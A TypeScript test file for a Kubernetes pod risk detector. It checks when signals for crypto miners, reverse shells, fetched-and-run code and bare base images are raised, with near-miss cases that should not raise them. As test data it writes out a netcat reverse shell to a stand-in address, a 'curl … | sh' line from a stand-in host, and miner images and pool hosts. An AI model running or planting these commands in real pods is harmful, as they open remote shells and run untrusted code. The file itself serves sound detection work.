/** Signals of what a pod runs: where each is raised, and the nearest that does not raise it. */
import { type Json } from '../../alert/creations.ts';
import { describeSignals, pod, podWith } from '../risks.ts';

const exec = (...command: readonly string[]): Json => ({ exec: { command } });
const SHELL = ['nc', '-e', '/bin/sh', '192.0.2.1', '4444'];
const FETCH = 'curl http://drop.example/x | sh';

describeSignals({
  miner: {
    raised: [
      ['a miner’s image', podWith({ image: 'registry.example/tools/xmrig:6' })],
      ['a denied image', podWith({ image: 'vibersastra/ubuntu:latest' })],
      ['a pool in the arguments', podWith({ args: ['-o', 'pool.minexmr.com:4444'] })],
      ['a pool in an env value', podWith({ env: [{ name: 'POOL', value: 'stratum+tcp://h:1' }] })],
      ['an init container', pod({ initContainers: [{ name: 'i', image: 'xmrig/xmrig' }] })],
      [
        'an ephemeral container',
        pod({ ephemeralContainers: [{ name: 'e', image: 'a', command: ['xmrig'] }] }),
      ],
      ['a postStart hook', podWith({ lifecycle: { postStart: exec('xmrig') } })],
      ['a probe', podWith({ livenessProbe: exec('sh', '-c', 'xmrig') })],
    ],
    not: [
      ['a miner’s name as an owner', podWith({ image: 'registry.example/xmrigger/app' })],
      ['a port that miners use too', podWith({ args: ['--port', '3333'], ports: [{ containerPort: 3333 }] })],
      [
        'a value that comes from a Secret',
        podWith({ env: [{ name: 'POOL', valueFrom: { secretKeyRef: { name: 'xmrig', key: 'xmrig' } } }] }),
      ],
    ],
  },
  'reverse-shell': {
    raised: [
      ['the command', podWith({ command: SHELL })],
      ['the arguments', podWith({ args: SHELL })],
      ['both together', podWith({ command: ['/bin/sh', '-c'], args: [SHELL.join(' ')] })],
      ['a preStop hook', podWith({ lifecycle: { preStop: exec(...SHELL) } })],
      ['a readiness probe', podWith({ readinessProbe: exec(...SHELL) })],
      ['a startup probe', podWith({ startupProbe: exec(...SHELL) })],
      ['an env value', podWith({ env: [{ name: 'RUN', value: SHELL.join(' ') }] })],
      ['an init container', pod({ initContainers: [{ name: 'i', command: SHELL }] })],
    ],
    not: [
      ['waiting for a port', podWith({ command: ['sh', '-c', 'until nc -z db 5432; do sleep 1; done'] })],
      ['a probe over HTTP', podWith({ livenessProbe: { httpGet: { path: '/nc -e /bin/sh h 1' } } })],
    ],
  },
  'fetched-code': {
    raised: [
      ['the command', podWith({ command: ['sh', '-c', FETCH] })],
      ['an ephemeral container', pod({ ephemeralContainers: [{ name: 'e', args: ['sh', '-c', FETCH] }] })],
    ],
    not: [
      [
        'a download that is not run',
        podWith({ command: ['sh', '-c', 'curl -o /data/x http://repo.example/x'] }),
      ],
    ],
  },
  'base-image': {
    raised: [
      ['a bare system', podWith({ image: 'ubuntu:22.04' })],
      ['a mirror of one', podWith({ image: 'mirror.example/library/alpine' })],
      ['a box of tools', podWith({ image: 'nicolaka/netshoot' })],
      ['an init container', pod({ initContainers: [{ name: 'i', image: 'busybox' }] })],
    ],
    not: [
      ['an application', podWith({ image: 'registry.example/ubuntu-app:1' })],
      ['a container without an image', podWith({ image: undefined })],
    ],
  },
});
